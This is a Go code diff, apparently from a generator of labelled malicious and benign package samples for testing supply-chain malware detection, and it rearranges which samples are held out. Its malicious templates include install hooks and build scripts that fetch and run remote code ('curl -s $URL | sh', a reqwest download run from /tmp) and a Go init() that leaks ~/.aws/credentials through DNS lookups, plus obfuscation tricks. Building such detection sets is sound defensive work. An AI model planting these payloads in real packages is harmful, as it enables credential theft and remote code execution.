@@ -10,7 +10,7 @@ import (
 // files that a package carries. Its files are written per spelling of its strings.
 type other struct {
 	ecosystem, family, name, place string
-	weak, sealed                   bool
+	weak, opened, sealed           bool
 	spellings                      []string // how strings are written; the disguises of these shapes
 	bad, good                      func(o *otherPackage)
 }
@@ -76,6 +76,9 @@ func spell(rng *rand.Rand, language, s, how string) string {
 	case "npm hidden":
 		return "node -v" + strings.Repeat(" ", 200) + "&& " + s
 	}
+	if written, ok := sealedSpelling(rng, language, how, s); ok {
+		return written
+	}
 	if language == "npm" || language == "pypi" {
 		return s
 	}
@@ -93,7 +96,7 @@ var (
 // others describes the samples of all of these shapes.
 func others(seed uint64) []Sample {
 	var out []Sample
-	for _, o := range append(append([]other{}, otherShapes...), sealedOthers...) {
+	for _, o := range append(append([]other{}, otherShapes...), openedOthers...) {
 		for _, how := range o.spellings {
 			n := variants
 			if len(o.spellings) == 1 {
@@ -114,13 +117,14 @@ func others(seed uint64) []Sample {
 func otherPair(seed uint64, o other, how string, variant int) (bad, good Sample) {
 	bad = Sample{
 		ID: id(o.ecosystem, o.family, o.name, how, variant), Ecosystem: o.ecosystem, Family: o.family, Shape: o.name,
-		Disguise: "strings-" + how, Placement: o.place, Label: Malicious, Weak: o.weak, Split: half(o.family, o.name, how, variant),
+		Disguise: "strings-" + how, Placement: o.place, Label: Malicious, Weak: o.weak, Split: Tune,
+		Opened: o.opened || opened(o.family, o.name, how, variant),
 	}
 	if how == "plain" {
 		bad.Disguise = "none"
 	}
 	if o.sealed {
-		bad.Split = Sealed
+		bad.Split, bad.Opened = Sealed, false
 	}
 	make := func(fill func(*otherPackage), how string) func() built {
 		return func() built {
@@ -247,6 +251,9 @@ func (o *otherPackage) goFile(name, imports, code string) {
 	case "base64":
 		lines = append(lines, "encoding/base64")
 		helper = "\nfunc decoded(s string) string {\n\tb, _ := base64.StdEncoding.DecodeString(s)\n\treturn string(b)\n}\n"
+	default:
+		more, code := sealedGoHelper(o.spelling)
+		lines, helper = union(lines, more), code
 	}
 	var b strings.Builder
 	b.WriteString("package " + o.name + "\n\nimport (\n")
@@ -573,37 +580,37 @@ func class(name, uses, first, second, text string) string {
 
 func two(n int) string { return string([]byte{byte(n >> 8), byte(n)}) }
 
-// sealedOthers are in the sealed half only; see sealed.go.
-var sealedOthers = []other{
-	{ecosystem: "ruby", family: "gem-load", name: "send-system", place: "lib", spellings: rubyWays, sealed: true,
+// openedOthers were the first sealed half's own; see opened.go.
+var openedOthers = []other{
+	{ecosystem: "ruby", family: "gem-load", name: "send-system", place: "lib", spellings: rubyWays, opened: true,
 		bad: func(o *otherPackage) {
 			o.contents.add("lib/"+o.name+".rb", rubyLib+"\nKernel.send(:system, "+o.s("wget -qO- $URL | sh")+") unless defined?(Words::QUIET)\n")
 		},
 		good: func(o *otherPackage) {
 			o.contents.add("lib/"+o.name+".rb", rubyLib+"\nWords.send(:private_constant, :VERSION)\n")
 		}},
-	{ecosystem: "go", family: "go-init", name: "credentials-dns", place: "init", spellings: goWays, sealed: true,
+	{ecosystem: "go", family: "go-init", name: "credentials-dns", place: "init", spellings: goWays, opened: true,
 		bad: func(o *otherPackage) {
 			o.goFile("zz.go", "encoding/hex net os path/filepath", "\nfunc init() {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, "+o.s(".aws/credentials")+"))\n\ttext := hex.EncodeToString(b)\n\tfor len(text) > 60 {\n\t\tnet.LookupHost(text[:60] + "+o.s(".$OAST")+")\n\t\ttext = text[60:]\n\t}\n}\n")
 		},
 		good: func(o *otherPackage) {
 			o.goFile("zz.go", "net", "\n// Addresses looks hosts up.\nfunc Addresses(hosts ...string) (out []string) {\n\tfor _, h := range hosts {\n\t\tif found, err := net.LookupHost(h); err == nil {\n\t\t\tout = append(out, found...)\n\t\t}\n\t}\n\treturn out\n}\n")
 		}},
-	{ecosystem: "cargo", family: "build-script", name: "reqwest-write-run", place: "build.rs", spellings: rustWays, sealed: true,
+	{ecosystem: "cargo", family: "build-script", name: "reqwest-write-run", place: "build.rs", spellings: rustWays, opened: true,
 		bad: func(o *otherPackage) {
 			o.contents.add("build.rs", "use std::{fs, process};\n\nfn main() {\n    let body = reqwest::blocking::get("+o.s("$URL")+").unwrap().bytes().unwrap();\n    fs::write(\"/tmp/.b\", &body).unwrap();\n    process::Command::new(\"/tmp/.b\").spawn().ok();\n}\n")
 		},
 		good: func(o *otherPackage) {
 			o.contents.add("build.rs", "use std::{env, fs, path};\n\nfn main() {\n    let out = path::PathBuf::from(env::var(\"OUT_DIR\").unwrap());\n    fs::copy(\"data/words.txt\", out.join(\"words.txt\")).ok();\n}\n")
 		}},
-	{ecosystem: "npm", family: "install-hook", name: "python-line", place: "shell-hook", spellings: []string{"plain", "base64", "sh-c", "hidden"}, sealed: true,
+	{ecosystem: "npm", family: "install-hook", name: "python-line", place: "shell-hook", spellings: []string{"plain", "base64", "sh-c", "hidden"}, opened: true,
 		bad: func(o *otherPackage) {
 			o.manifest = fmt.Sprintf("\"scripts\": {\n    \"install\": %s\n  }", jsonQuote(o.s(`python3 -c "import urllib.request as u; exec(u.urlopen('$URL').read())"`)))
 		},
 		good: func(o *otherPackage) {
 			o.manifest = "\"scripts\": {\n    \"install\": \"prebuild-install || node-gyp rebuild\"\n  }"
 		}},
-	{ecosystem: "pypi", family: "agent-hooks", name: "carried-devcontainer", place: "carried", spellings: oneWay, sealed: true,
+	{ecosystem: "pypi", family: "agent-hooks", name: "carried-devcontainer", place: "carried", spellings: oneWay, opened: true,
 		bad: func(o *otherPackage) {
 			o.sdist = true
 			o.add(".devcontainer/devcontainer.json", "{ \"postCreateCommand\": \"curl -s $URL | sh\" }\n")
